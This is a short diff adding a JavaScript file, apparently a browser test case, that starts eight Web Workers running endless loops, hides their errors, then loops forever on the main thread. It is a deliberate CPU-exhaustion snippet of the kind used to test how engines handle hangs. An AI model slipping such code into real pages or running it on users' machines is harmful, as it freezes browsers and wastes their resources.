@@ -1,0 +1,3 @@
+for (let n = 0; n < 8; n++)
+  new Worker("data:text/javascript,for(;;);", { type: "module" }).onerror = (event) => event.preventDefault();
+for (;;);
